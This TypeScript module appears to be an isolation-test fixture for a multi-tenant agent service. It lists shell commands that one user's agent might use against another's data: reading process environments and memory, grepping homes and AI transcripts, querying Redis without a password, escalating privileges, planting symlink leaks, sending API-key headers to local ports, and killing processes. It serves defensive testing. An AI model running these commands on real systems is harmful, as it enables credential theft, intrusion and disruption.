/** What one person's agent may aim at of another; a real attacker would look around for it. */
export type Victim = {
  /** The directory of the other person's home, and their temporary one. */
  home: string;
  temporary: string;
  /** The processes of the other person's agent. */
  pids: number[];
  /**
   * Where the relay answers, which every link in a chat names, and where Redis does, without its
   * password.
   */
  relayUrl: string;
  redis: { host: string; port: number };
};

/**
 * What the victim has hidden, by the place: each is a random word that ends with the place's name.
 */
export const hidingPlaces = [
  'workspace',
  'home',
  'temporary',
  'picture',
  'transcript',
  'environment',
  'memory',
  'socket',
  'browser',
] as const;
export type HidingPlace = (typeof hidingPlaces)[number];

/** Looks through the memory of processes for a word that was hidden. */
const searchMemory = `
const fs = require('fs');
for (const pid of process.argv.slice(1)) {
  let maps = '';
  try { maps = fs.readFileSync('/proc/' + pid + '/maps', 'latin1'); } catch (error) { console.log(error.message); continue; }
  const found = new Set();
  for (const [, from, to] of maps.matchAll(/^(\\w+)-(\\w+) rw/gm)) {
    const [start, size] = [parseInt(from, 16), parseInt(to, 16) - parseInt(from, 16)];
    if (size > 200e6) continue;
    try {
      const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
      const bytes = Buffer.alloc(size);
      const read = fs.readSync(fd, bytes, 0, size, start);
      fs.closeSync(fd);
      for (const [word] of bytes.latin1Slice(0, read).matchAll(/[0-9a-f]{16}-(?:memory|browser)/g)) found.add(word);
    } catch (error) { console.log(error.code); break; }
  }
  console.log(pid, ...found);
}`;

/**
 * What the relay holds of a person, each behind an address of its own: the words end with the name.
 */
export const servedPlaces = ['page', 'media'] as const;

/** Asks Redis for everything, without a password. */
const askRedis = `
const [port, host] = process.argv.slice(1);
const socket = require('net').connect(port, host);
socket.on('data', (data) => console.log(String(data)));
socket.on('error', (error) => console.log(error.message));
for (const line of ['KEYS *', 'AUTH default', 'HGETALL {sidepocket}:page-sizes', 'ZRANGE {sidepocket}:pages 0 -1', 'ZRANGE {sidepocket}:files 0 -1', 'SCAN 0'])
  socket.write(line + '\\r\\n');
setTimeout(() => socket.destroy(), 2000);`;

/** Connects to each socket of a path and prints what it says. */
const askSockets = `
const net = require('net');
for (const path of process.argv.slice(1)) {
  const socket = net.connect(path);
  socket.on('data', (data) => console.log(String(data)));
  socket.on('error', (error) => console.log(error.message));
  setTimeout(() => socket.destroy(), 2000);
}`;

/**
 * Ways by which one person's agent might get at what is another person's, as lines of shell by what
 * they aim at. What they find they print.
 */
export function personAttacks({
  home,
  temporary,
  pids,
  relayUrl,
  redis,
}: Victim): Record<string, string> {
  const all = pids.join(' ');
  const node = `"${process.execPath}" -e`;
  return {
    files: `ls -laR ${home}; cat ${home}/workspaces/*/* ${home}/home/* ${home}/images/*/*; timeout 20 grep -rIs "" ${home} | head -c 5000000; find ${home}/.. -maxdepth 3 -readable`,
    temporary: `ls -laR ${temporary}; timeout 20 grep -rs "" ${temporary} | head -c 2000000; timeout 20 find /tmp /var/tmp /dev/shm -xdev -type f -readable -exec grep -Ish "[0-9a-f]-temporary" {} +`,
    transcripts: `cat ${home}/claude/projects/*/*.jsonl ${home}/claude/.claude.json; timeout 20 grep -rs "" ${home}/claude | head -c 5000000`,
    environments: `for p in ${all}; do cat /proc/$p/environ /proc/$p/task/*/environ; done 2>&1 | tr "\\0" "\\n"`,
    'open files': `for p in ${all}; do ls -la /proc/$p/fd /proc/$p/cwd/ /proc/$p/root/; for f in /proc/$p/fd/*; do timeout 1 head -c 100000 $f; done; cat /proc/$p/cwd/*; done 2>&1 | head -c 5000000`,
    memory: `${node} '${searchMemory.replaceAll("'", `'\\''`)}' ${all}; for p in ${all}; do head -c 100000 /proc/$p/map_files/*; done 2>&1 | head -c 100000`,
    sockets: `sockets="$(awk '{print $8}' /proc/net/unix | grep "^/" | sort -u) ${temporary}/open.sock"; ${node} '${askSockets}' $sockets`,
    'becoming the other': `uid=$(stat -c %u ${home}); for how in "setpriv --reuid $uid sh -c" "setpriv --regid $uid --clear-groups sh -c" "su -c" "unshare -Ur sh -c" "sudo -n sh -c"; do $how "id; cat ${home}/workspaces/*/*" </dev/null; done; node -e "process.setuid($uid)"`,
    'taking the place': `mv ${home} ${home}.gone; mkdir ${home}/../.users/1; ln -sfn $HOME ${home}; touch ${home}/workspaces/mine ${temporary}/mine; ln ${home}/workspaces/*/secret.txt stolen; chmod -R 777 ${home}; ls -la ${home}/..`,
    links: `for file in ${home}/workspaces/*/secret.txt; do ln -sfn $file leak.txt; done; ln -sfn ${home}/home/secret leak-2.txt; ln -sfn /proc/${pids[0] ?? 1}/environ leak-3.txt; cat leak.txt leak-2.txt leak-3.txt`,
    relay: `for path in "" page page/ media media/ link link/ links admin admin/queues metrics health robots.txt "page/..%2f" "media/*" "media/%7Bsidepocket%7D:files"; do curl -s -m 5 -i "${relayUrl}/$path"; done; for n in 0 1 2; do curl -s -m 5 "${relayUrl}/media/$(head -c 18 /dev/urandom | base64 | tr +/ -_)" "${relayUrl}/page/$(head -c 40 /dev/urandom | base64 -w0 | tr +/ -_)"; done`,
    Redis: `${node} '${askRedis.replaceAll("'", `'\\''`)}' ${redis.port} ${redis.host}`,
    'ports of this machine': `for port in $(awk '$4 == "0A" { split($2, at, ":"); print at[2] }' /proc/net/tcp /proc/net/tcp6 | sort -u); do for path in "" health environment pages media wake v1/models v1/files v1/messages json; do curl -s -m 2 -H "x-sidepocket-token: \${SIDEPOCKET_SESSION_TOKEN-}" -H "x-api-key: \${ANTHROPIC_API_KEY-}" "http://127.0.0.1:$((0x$port))/$path" | head -c 100000; done; done; echo looked`,
    signals: `for p in ${all}; do kill -STOP $p; kill -CONT $p; kill -USR1 $p; done; sleep 1; curl -s -m 2 http://127.0.0.1:9229/json; for p in ${all}; do renice -n 19 -p $p; prlimit --pid $p --nofile=3:3; kill -KILL $p; done`,
  };
}
